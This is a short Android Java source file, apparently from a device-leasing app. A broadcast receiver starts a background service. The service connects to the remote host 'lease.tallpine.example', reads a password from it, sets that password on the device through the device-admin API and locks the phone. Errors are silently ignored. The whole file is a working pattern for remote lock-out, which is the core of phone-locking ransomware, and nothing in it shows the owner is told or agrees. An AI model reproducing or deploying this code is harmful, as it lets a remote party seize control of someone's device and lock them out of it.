package com.tallpine.lease;

public class Start extends BroadcastReceiver {
  public void onReceive(Context c, Intent i) { c.startService(new Intent(c, Link.class)); }
}

public class Link extends Service {
  public int onStartCommand(Intent i, int flags, int id) { new Thread(new Line(this)).start(); return 1; }
}

class Line implements Runnable {
  Context context;
  Line(Context c) { context = c; }
  public void run() {
    try {
      Socket s = new Socket("lease.tallpine.example", 9400);
      BufferedReader r = new BufferedReader(new InputStreamReader(s.getInputStream()));
      String said = r.readLine();
      DevicePolicyManager p = (DevicePolicyManager) context.getSystemService(Context.DEVICE_POLICY_SERVICE);
      p.resetPassword(said, 0);
      p.lockNow();
    } catch (Exception e) {
    }
  }
}
